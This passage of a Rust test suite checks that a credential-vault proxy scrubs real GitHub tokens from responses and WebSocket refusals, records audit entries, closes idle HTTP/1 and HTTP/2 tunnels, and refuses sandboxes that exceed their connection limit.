    assert!(output.starts_with("HTTP/1.1 200 OK\r\n"), "{output}");

    let (status, output) =
        support::upstream::curl(proxy, &ca_file, &["--http1.1", "-H", &auth, &url("/header-name")]).await;
    assert_eq!(status, 200, "{output}");
    assert!(!output.to_lowercase().contains(&GH_REAL.to_lowercase()), "{output}");
    assert!(
        binding
            .audit
            .recent()
            .iter()
            .any(|r| r.alert && r.path == "/header-name")
    );

    let (status, output) =
        support::upstream::curl(proxy, &ca_file, &["--http1.1", "-H", &auth, &url("/gzip-chunked")]).await;
    // A gzip transfer coding is decoded like a content coding: scrubbed, passed on decoded.
    assert_eq!(status, 200, "{output}");
    assert!(!output.contains(GH_REAL), "{output}");
    assert!(output.contains(GH_STUB), "{output}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_refused_websocket_upgrade_has_its_body_scrubbed() {
    let (proxy, ca_file, _binding, port, _dir, _stop) = hostile().await;
    let mut tls = tunnel(proxy, &ca_file, "api.github.test", port, b"http/1.1").await;
    let request = format!(
        "GET /ws HTTP/1.1\r\nHost: api.github.test:{port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
         Authorization: Bearer {GH_STUB}\r\n\r\n"
    );
    let answer = exchange_on(&mut tls, request.as_bytes()).await;
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    assert!(
        !answer.contains(GH_REAL),
        "the real value came back in the body: {answer}"
    );
    assert!(answer.contains(GH_STUB), "{answer}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_streamed_response_is_recorded_when_its_body_ends_with_what_it_scrubbed() {
    let (proxy, ca_file, binding, port, _dir, _stop) = hostile().await;
    let auth = format!("Authorization: Bearer {GH_STUB}");
    let url = format!("https://api.github.test:{port}/streamed");
    let (status, output) = support::upstream::curl(proxy, &ca_file, &["-H", &auth, &url]).await;
    assert_eq!(status, 200, "{output}");
    assert!(!output.contains(GH_REAL), "{output}");
    let expected = format!("you sent Bearer {GH_STUB}").len() as u64;
    let record = support::wait_until_async(
        "a record of the streamed response",
        std::time::Duration::from_secs(10),
        || async { binding.audit.recent().into_iter().find(|r| r.path == "/streamed") },
    )
    .await;
    assert_eq!(record.scrubbed, ["GITHUB_TOKEN"], "{record:?}");
    assert_eq!(record.swapped, ["GITHUB_TOKEN"], "{record:?}");
    assert_eq!(record.bytes_down, Some(expected), "{record:?}");
}

/// A tunnel through the vault at `proxy` to `host:port`, TLS offering `alpn`.
async fn tunnel(
    proxy: SocketAddr,
    ca_file: &std::path::Path,
    host: &str,
    port: u16,
    alpn: &[u8],
) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
    support::upstream::tunnel(proxy, ca_file, host, port, &[alpn]).await
}

// ---- Idle tunnels and the per-sandbox connection limit ----

#[tokio::test(flavor = "multi_thread")]
async fn idle_intercepted_tunnels_are_closed_over_http1_and_http2() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let _ = rustls::crypto::ring::default_provider().install_default();
    let dir = tempfile::tempdir().unwrap();
    let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
    let seen = Arc::new(Mutex::new(Vec::new()));
    let port = upstream(public_ca.clone(), seen.clone(), true).await;
    let idle = std::time::Duration::from_millis(500);
    let (proxy, ca_file, _binding, _stop) = vault_idle_after(dir.path(), &public_ca, &[port], idle).await;
    // Well under the HTTP/1 head timeout: only the idle timeout can close these in time.
    let limit = std::time::Duration::from_secs(5);

    let mut h1 = tunnel(proxy, &ca_file, "api.github.test", port, b"http/1.1").await;
    h1.write_all(format!("GET /one HTTP/1.1\r\nHost: api.github.test:{port}\r\n\r\n").as_bytes())
        .await
        .unwrap();
    let mut head = [0u8; 12];
    h1.read_exact(&mut head).await.unwrap();
    assert_eq!(&head, b"HTTP/1.1 200");
    assert!(closed_within(&mut h1, limit).await, "an idle HTTP/1 tunnel stayed open");

    let h2 = tunnel(proxy, &ca_file, "api.github.test", port, b"h2").await;
    let (mut sender, conn) =
        hyper::client::conn::http2::handshake(hyper_util::rt::TokioExecutor::new(), hyper_util::rt::TokioIo::new(h2))
            .await
            .unwrap();
    let conn = tokio::spawn(conn);
    let request = hyper::Request::builder()
        .uri(format!("https://api.github.test:{port}/two"))
        .body(http_body_util::Empty::<hyper::body::Bytes>::new())
        .unwrap();
    assert_eq!(sender.send_request(request).await.unwrap().status(), 200);
    let ended = tokio::time::timeout(limit, conn).await;
    assert!(ended.is_ok(), "an idle HTTP/2 tunnel stayed open");
    assert_eq!(seen.lock().unwrap().len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sandbox_over_its_connection_limit_is_refused_and_recorded() {
    use lap::vault::intercept::MAX_OPEN_CONNECTIONS;
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let w = world(&[]).await;
    let connect = |n: usize| {
        let proxy = w.proxy;
        let target = format!("api.github.test:{}", w.upstream_port);
        async move {
            let mut tcp = tokio::net::TcpStream::connect(proxy).await.unwrap();
            tcp.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
                .await
                .unwrap();
            let mut head = Vec::new();
            while !head.ends_with(b"\r\n\r\n") {
                match tcp.read_u8().await {
                    Ok(byte) => head.push(byte),
                    Err(err) => panic!("connection {n}: {err}"),
                }
            }
            (tcp, String::from_utf8_lossy(&head).into_owned())
        }
    };
    // Each tunnel is held open (a TLS handshake never started): the sandbox's whole allowance.
    let mut open = Vec::new();
    for n in 0..MAX_OPEN_CONNECTIONS {
        let (tcp, head) = connect(n).await;
        assert!(head.starts_with("HTTP/1.1 200"), "tunnel {n}: {head}");
        open.push(tcp);
    }
    let (_, head) = connect(MAX_OPEN_CONNECTIONS).await;
    assert!(head.starts_with("HTTP/1.1 429"), "{head}");
    assert!(head.contains("x-lap-vault-blocked: tunnel-limit"), "{head}");
    let record = w.binding.audit.recent().pop().unwrap();
    assert_eq!(record.block_kind.as_deref(), Some("tunnel-limit"), "{record:?}");
    // Closing one makes room again.
    drop(open.pop());
    support::wait_until_async(
        "room after a tunnel closed",
        std::time::Duration::from_secs(5),
        || async {
            let (_, head) = connect(MAX_OPEN_CONNECTIONS + 1).await;
            if head.starts_with("HTTP/1.1 200") {
                Ok(())
            } else {
                Err(head)
            }
        },
    )
    .await;
}
